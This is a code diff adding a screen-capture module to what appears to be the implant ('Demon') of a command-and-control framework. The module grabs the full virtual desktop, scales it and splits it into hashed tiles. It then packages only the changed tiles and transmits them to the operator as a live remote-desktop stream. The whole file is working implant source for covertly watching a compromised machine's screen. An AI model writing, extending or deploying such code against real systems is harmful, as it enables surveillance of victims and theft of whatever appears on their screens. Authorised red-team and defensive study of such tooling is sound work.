@@ -0,0 +1,248 @@
+#include <Demon.h>
+#include <core/Desktop.h>
+#include <core/MiniStd.h>
+#include <core/Package.h>
+#include <core/Command.h>
+#include <core/Memory.h>
+
+/*!
+ * Copies the tile out of the frame and hashes it.
+ * @param Bits top-down 24 bit frame
+ * @param Stride bytes of a row of the frame
+ * @param X left of the tile
+ * @param Y top of the tile
+ * @param Width width of the tile
+ * @param Height height of the tile
+ * @param Tile buffer the rows of the tile are copied to (optional)
+ * @return hash of the tile
+ */
+static DWORD DesktopTile(
+    IN  PBYTE Bits,
+    IN  DWORD Stride,
+    IN  DWORD X,
+    IN  DWORD Y,
+    IN  DWORD Width,
+    IN  DWORD Height,
+    OUT PBYTE Tile
+) {
+    DWORD Hash = 5381;
+    PBYTE Row  = NULL;
+
+    for ( DWORD Line = 0; Line < Height; Line++ ) {
+        Row = Bits + ( ( Y + Line ) * Stride ) + ( X * 3 );
+
+        for ( DWORD i = 0; i < Width * 3; i++ ) {
+            Hash = ( ( Hash << 5 ) + Hash ) + Row[ i ];
+        }
+
+        if ( Tile ) {
+            MemCopy( Tile + ( Line * Width * 3 ), Row, Width * 3 );
+        }
+    }
+
+    return Hash;
+}
+
+VOID DesktopStop(
+    VOID
+) {
+    Instance->Desktop.Running   = FALSE;
+    Instance->Desktop.RequestID = 0;
+
+    if ( Instance->Desktop.Tiles ) {
+        MmHeapFree( Instance->Desktop.Tiles );
+        Instance->Desktop.Tiles = NULL;
+    }
+
+    Instance->Desktop.Width  = 0;
+    Instance->Desktop.Height = 0;
+}
+
+VOID DesktopPush(
+    VOID
+) {
+    BITMAPINFO BitMapInfo = { 0 };
+    PPACKAGE   Package    = NULL;
+    HDC        hDC        = NULL;
+    HDC        hMemDC     = NULL;
+    HBITMAP    hBitmap    = NULL;
+    HGDIOBJ    ObjPtr     = NULL;
+    PBYTE      Bits       = NULL;
+    PBYTE      Tile       = NULL;
+    PDWORD     Hashes     = NULL;
+    DWORD      Stride     = 0;
+    DWORD      Columns    = 0;
+    DWORD      Rows       = 0;
+    DWORD      Changed    = 0;
+    DWORD      Size       = 0;
+    INT        X          = 0;
+    INT        Y          = 0;
+    INT        Width      = 0;
+    INT        Height     = 0;
+    INT        Scaled[ 2 ] = { 0 };
+
+    if ( ! Instance->Desktop.Running ) {
+        return;
+    }
+
+    if ( Instance->Desktop.Last && ( NtGetTickCount() - Instance->Desktop.Last ) < Instance->Desktop.Interval ) {
+        return;
+    }
+
+    Instance->Desktop.Last = NtGetTickCount();
+
+    X      = Instance->Win32.GetSystemMetrics( SM_XVIRTUALSCREEN );
+    Y      = Instance->Win32.GetSystemMetrics( SM_YVIRTUALSCREEN );
+    Width  = Instance->Win32.GetSystemMetrics( SM_CXVIRTUALSCREEN );
+    Height = Instance->Win32.GetSystemMetrics( SM_CYVIRTUALSCREEN );
+
+    if ( ! Width || ! Height ) {
+        PUTS( "GetSystemMetrics failed" )
+        return;
+    }
+
+    Scaled[ 0 ] = Width  / Instance->Desktop.Scale;
+    Scaled[ 1 ] = Height / Instance->Desktop.Scale;
+
+    BitMapInfo.bmiHeader.biSize        = sizeof( BITMAPINFOHEADER );
+    BitMapInfo.bmiHeader.biBitCount    = 24;
+    BitMapInfo.bmiHeader.biCompression = BI_RGB;
+    BitMapInfo.bmiHeader.biPlanes      = 1;
+    BitMapInfo.bmiHeader.biWidth       = Scaled[ 0 ];
+    /* top-down rows */
+    BitMapInfo.bmiHeader.biHeight      = -Scaled[ 1 ];
+
+    Stride = ( ( 24 * Scaled[ 0 ] + 31 ) & ~31 ) / 8;
+
+    if ( ! ( hDC = Instance->Win32.GetDC( NULL ) ) ) {
+        PUTS( "GetDC failed" )
+        goto Cleanup;
+    }
+
+    if ( ! ( hMemDC = Instance->Win32.CreateCompatibleDC( hDC ) ) ) {
+        PUTS( "CreateCompatibleDC failed" )
+        goto Cleanup;
+    }
+
+    if ( ! ( hBitmap = Instance->Win32.CreateDIBSection( hDC, &BitMapInfo, DIB_RGB_COLORS, ( VOID** ) &Bits, NULL, 0 ) ) ) {
+        PUTS( "CreateDIBSection failed" )
+        goto Cleanup;
+    }
+
+    ObjPtr = Instance->Win32.SelectObject( hMemDC, hBitmap );
+    if ( ! ObjPtr || ObjPtr == HGDI_ERROR ) {
+        PUTS( "SelectObject failed" )
+        goto Cleanup;
+    }
+
+    Instance->Win32.SetStretchBltMode( hMemDC, HALFTONE );
+
+    if ( ! Instance->Win32.StretchBlt( hMemDC, 0, 0, Scaled[ 0 ], Scaled[ 1 ], hDC, X, Y, Width, Height, SRCCOPY ) ) {
+        PUTS( "StretchBlt failed" )
+        goto Cleanup;
+    }
+
+    Columns = ( Scaled[ 0 ] + DESKTOP_TILE - 1 ) / DESKTOP_TILE;
+    Rows    = ( Scaled[ 1 ] + DESKTOP_TILE - 1 ) / DESKTOP_TILE;
+
+    /* the resolution changed (or it is the first frame): send every tile */
+    if ( Instance->Desktop.Width != Scaled[ 0 ] || Instance->Desktop.Height != Scaled[ 1 ] ) {
+        if ( Instance->Desktop.Tiles ) {
+            MmHeapFree( Instance->Desktop.Tiles );
+        }
+
+        if ( ! ( Instance->Desktop.Tiles = MmHeapAlloc( Columns * Rows * sizeof( DWORD ) ) ) ) {
+            goto Cleanup;
+        }
+
+        Instance->Desktop.Width  = Scaled[ 0 ];
+        Instance->Desktop.Height = Scaled[ 1 ];
+    }
+
+    if ( ! ( Hashes = MmHeapAlloc( Columns * Rows * sizeof( DWORD ) ) ) || ! ( Tile = MmHeapAlloc( DESKTOP_TILE * DESKTOP_TILE * 3 ) ) ) {
+        goto Cleanup;
+    }
+
+    for ( DWORD Row = 0; Row < Rows; Row++ ) {
+        for ( DWORD Column = 0; Column < Columns; Column++ ) {
+            DWORD Index = Row * Columns + Column;
+
+            Hashes[ Index ] = DesktopTile(
+                Bits, Stride, Column * DESKTOP_TILE, Row * DESKTOP_TILE,
+                MIN( DESKTOP_TILE, Scaled[ 0 ] - Column * DESKTOP_TILE ),
+                MIN( DESKTOP_TILE, Scaled[ 1 ] - Row * DESKTOP_TILE ),
+                NULL
+            );
+
+            if ( Hashes[ Index ] != Instance->Desktop.Tiles[ Index ] ) {
+                Changed++;
+            }
+        }
+    }
+
+    /* nothing to send */
+    if ( ! Changed ) {
+        goto Cleanup;
+    }
+
+    Package = PackageCreateWithRequestID( DEMON_COMMAND_DESKTOP, Instance->Desktop.RequestID );
+
+    PackageAddInt32( Package, DESKTOP_COMMAND_FRAME );
+    PackageAddInt32( Package, ++Instance->Desktop.Frame );
+    PackageAddInt32( Package, Scaled[ 0 ] );
+    PackageAddInt32( Package, Scaled[ 1 ] );
+    PackageAddInt32( Package, Changed );
+
+    for ( DWORD Index = 0; Index < Columns * Rows; Index++ ) {
+        DWORD Column = Index % Columns;
+        DWORD Row    = Index / Columns;
+        DWORD TileW  = MIN( DESKTOP_TILE, Scaled[ 0 ] - Column * DESKTOP_TILE );
+        DWORD TileH  = MIN( DESKTOP_TILE, Scaled[ 1 ] - Row * DESKTOP_TILE );
+
+        if ( Hashes[ Index ] == Instance->Desktop.Tiles[ Index ] ) {
+            continue;
+        }
+
+        /* the rest is sent with the next frame. the first tile is always sent */
+        if ( Instance->Desktop.Budget && Size && ( Size + TileW * TileH * 3 ) > Instance->Desktop.Budget ) {
+            break;
+        }
+
+        DesktopTile( Bits, Stride, Column * DESKTOP_TILE, Row * DESKTOP_TILE, TileW, TileH, Tile );
+
+        PackageAddInt32( Package, Column * DESKTOP_TILE );
+        PackageAddInt32( Package, Row * DESKTOP_TILE );
+        PackageAddInt32( Package, TileW );
+        PackageAddInt32( Package, TileH );
+        PackageAddBytes( Package, Tile, TileW * TileH * 3 );
+
+        Instance->Desktop.Tiles[ Index ] = Hashes[ Index ];
+
+        Size += TileW * TileH * 3;
+    }
+
+    PRINTF( "DesktopPush: Frame:[%d] Changed:[%d] Size:[%d]\n", Instance->Desktop.Frame, Changed, Size )
+
+    PackageTransmit( Package );
+
+Cleanup:
+    if ( Hashes ) {
+        MmHeapFree( Hashes );
+    }
+
+    if ( Tile ) {
+        MmHeapFree( Tile );
+    }
+
+    if ( hMemDC ) {
+        Instance->Win32.DeleteDC( hMemDC );
+    }
+
+    if ( hDC ) {
+        Instance->Win32.ReleaseDC( NULL, hDC );
+    }
+
+    if ( hBitmap ) {
+        Instance->Win32.DeleteObject( hBitmap );
+    }
+}